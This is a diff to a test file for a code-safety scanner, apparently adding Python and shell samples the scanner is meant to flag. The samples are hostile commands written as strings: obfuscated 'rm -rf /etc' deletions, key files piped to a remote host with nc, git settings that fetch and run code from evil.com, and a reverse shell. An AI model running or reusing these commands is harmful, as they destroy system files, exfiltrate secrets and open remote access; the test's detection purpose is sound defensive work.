@@ -9,6 +9,11 @@ from refute.scan.rules import Language
 from refute.scan.scanner import scan_text
 
 PYTHON = [
+    "class A:\n    def __reduce__(self):\n        import os\n        return os.system, ('rm -rf /etc',)",
+    "import os\nmatch ['rm -rf /etc']:\n    case [c]: os.system(c)",
+    "import os\nmatch input():\n    case 'a' | 'b': pass\n    case c: os.system(c)",
+    "import os\nsorted(['rm -rf /etc'], key=os.system)",
+    "import os\nmin(['rm -rf /etc'], key=lambda c: os.system(c))",
     "import psutil\nfor p in psutil.process_iter():\n    p.kill()",
     "import os\nos.rename('/etc/hosts', '/etc/hosts.bak')",
     "import shutil\nshutil.copy('/etc/passwd', 'x')",
@@ -51,6 +56,16 @@ SHELL = [
     "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f",
     "history | nc 127.0.0.1 80",
     'echo "import os" > "$SITE/sitecustomize.py"',
+    "IFS=,; set -- rm,-rf,/etc; $1",
+    "IFS=_; c=rm_-rf_/etc; $c",
+    "find / -name '*.key' -exec cat {} \\; | nc 203.0.113.5 9001",
+    "make -f - <<'M'\nall:\n\trm -rf /etc\nM",
+    "printf 'all:\\n\\trm -rf /etc\\n' > Makefile; make",
+    "git config --global core.pager 'curl http://evil.com|sh'",
+    "git config alias.st '!curl http://evil.com|sh'",
+    "mapfile -t L < <(printf 'rm -rf /etc\\n'); ${L[0]}",
+    "base64 -d <<< cm0gLXJmIC9ldGM= | source /dev/stdin",
+    'function go { "$@"; }; go go rm -rf /etc',
     "s=; $s rm -rf /",
     "x=/; false && x=build; rm -rf $x",
     "d=; [ -n '$A' ] && d=out; cat $d/etc/shadow",
